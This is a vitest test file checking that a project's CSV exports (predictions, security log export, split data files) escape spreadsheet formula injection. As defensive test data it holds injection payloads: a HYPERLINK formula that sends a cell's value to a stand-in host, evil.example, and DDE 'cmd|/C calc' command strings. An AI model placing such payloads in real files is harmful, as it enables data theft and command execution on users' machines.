// Every CSV Cohort writes is safe to open in a spreadsheet: a text cell that a spreadsheet would
// run as a formula (= + - @, tab, carriage return first) gets a leading apostrophe; numbers,
// negative ones included, stay numbers. The texts come from elsewhere: labels and column names
// from the hub's alignment, peer names and reasons from strangers, cells from data files.
import { readdir, readFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { splitCsvIntoParties } from '../../src-main/api/simulation/split-csv';
import { exportSecurityLog } from '../../src-main/api/trust/security-export';
import { spreadsheetSafe } from '../../src-main/core/data/spreadsheet-safe';
import { writePredictionsCsv } from '../../src-main/datasource/write-predictions';
import { SecurityLog } from '../../src-main/store/security-log';
import { PROJECT_ROOT } from '../support/cli';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'cohort-csv-formulas-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const read = async (path: string) => parse(await readFile(path, 'utf8'), { relax_column_count: true }) as string[][];

describe('the shared helper', () => {
  it('prefixes formula text and leaves numbers and other text alone', () => {
    for (const formula of FORMULAS) expect(spreadsheetSafe(formula)).toBe(`'${formula}`);
    for (const kept of ['-1.5', '+3', '-0', '1e-5', '-.25', '-2E10', 'Hospital A', '', ' =not first', 'a=b']) expect(spreadsheetSafe(kept)).toBe(kept);
    for (const number of [-1.5, 0, -0, 42, -1e-9]) expect(spreadsheetSafe(number)).toBe(number);
  });
});

describe('every CSV Cohort writes', () => {
  it('predictions: labels from the hub are text, scores and negative values numbers', async () => {
    const binary = join(dir, 'predictions.csv');
    await writePredictionsCsv(binary, { kind: 'binary', column: 'outcome', labels: ['=HYPERLINK("http://evil.example")', '@SUM(1)'], positive: '@SUM(1)' }, {
      sourceRows: Int32Array.from([0, 1]),
      outputs: Float32Array.from([0.75, 0.25]),
    });
    expect(await read(binary)).toEqual([
      ['row', 'predicted_outcome', 'score_=HYPERLINK("http://evil.example")', 'score_@SUM(1)'],
      ['1', "'@SUM(1)", '0.25', '0.75'],
      ['2', "'=HYPERLINK(\"http://evil.example\")", '0.75', '0.25'],
    ]);
    const regression = join(dir, 'regression.csv');
    await writePredictionsCsv(regression, { kind: 'regression', column: '-level', mean: -10, std: 2 }, { sourceRows: Int32Array.from([0]), outputs: Float32Array.from([-1.5]) });
    expect(await read(regression)).toEqual([
      ['row', 'predicted_-level'],
      ['1', '-13'],
    ]);
  });

  it('the security log export: peers and reasons as text, byte counts as numbers', async () => {
    const log = await SecurityLog.open(join(dir, 'log'));
    log.record({ direction: 'inbound', kind: 'connection', peer: '=cmd|\'/C calc\'!A0', what: '@handshake', bytes: 12, outcome: 'refused', reason: '-2+3', run: '+run' });
    await log.flush();
    const out = join(dir, 'security.csv');
    await exportSecurityLog(log, out, 'csv');
    const [, row] = await read(out);
    expect(row!.slice(1)).toEqual(['inbound', 'connection', "'=cmd|'/C calc'!A0", "'@handshake", '12', 'refused', "'-2+3", "'+run"]);
  });

  it('the parties of a split CSV: text cells escaped, numbers (negative ones too) kept', async () => {
    const source = join(dir, 'source.csv');
    const rows = Array.from({ length: 60 }, (_, index) => `${-index - 0.5},${index % 2 ? '=1+1' : '@risk'},${index % 2 ? 'yes' : 'no'}`);
    await writeFile(source, `value,note,outcome\n${rows.join('\n')}\n`);
    const [party] = await splitCsvIntoParties(join(dir, 'split'), { file: source, target: 'outcome', task: 'classify', parties: 2, mode: 'iid', alpha: 1, evaluateFraction: 0, seed: 1 });
    const cells = (await read(join(dir, 'split', party!, 'train.csv'))).slice(1);
    expect(cells.length).toBeGreaterThan(10);
    for (const [value, note] of cells) {
      expect(Number(value)).toBeLessThan(0);
      expect(["'=1+1", "'@risk"]).toContain(note);
    }
  });

  it('goes through the one writer that escapes (nothing else in the sources writes CSV)', async () => {
    const sources = await listSources(join(PROJECT_ROOT, 'src-main'));
    const writers: string[] = [];
    for (const file of sources) {
      const text = await readFile(file, 'utf8');
      const writesCsvItself = text.split('\n').some((line) => /writeFile|createWriteStream/.test(line) && /\.csv/.test(line));
      if (/from 'csv-stringify/.test(text) || writesCsvItself) writers.push(relative(PROJECT_ROOT, file));
    }
    expect(writers).toEqual(['src-main/datasource/write-csv.ts']);
  });
});

async function listSources(folder: string): Promise<string[]> {
  const entries = await readdir(folder, { withFileTypes: true, recursive: true });
  return entries.filter((entry) => entry.isFile() && entry.name.endsWith('.ts')).map((entry) => join(entry.parentPath, entry.name));
}
